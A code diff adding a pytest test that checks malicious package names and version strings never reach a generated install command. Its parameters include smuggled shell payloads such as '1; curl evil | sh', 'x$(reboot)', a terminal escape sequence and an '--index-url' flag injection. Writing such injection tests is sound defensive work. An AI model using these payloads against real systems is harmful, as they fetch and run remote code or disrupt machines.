@@ -97,3 +97,13 @@ def test_a_package_that_says_no_version_is_known_by_its_metadata(toylib):
     (Path(toylib.__file__).parents[1] / "toylib-3.1.dist-info").mkdir()
 
     assert load_failure.versions([toylib.Gone, int, Path]) == {"toylib": "3.1"}
+
+
+@pytest.mark.parametrize(
+    ("name", "version"),
+    [("toylib", "1; curl evil | sh"), ("x$(reboot)", "1.0"), ("", "1.0"), ("toylib", "\x1b[2J"), ("--index-url", "1")],
+)
+def test_what_is_no_package_or_version_gets_into_no_command(toylib, monkeypatch, name, version):
+    monkeypatch.setattr(load_failure, "versions", lambda kinds: {name: version})
+
+    assert failure_of(toylib.Gone(), toylib) == ("toylib.Gone", ())
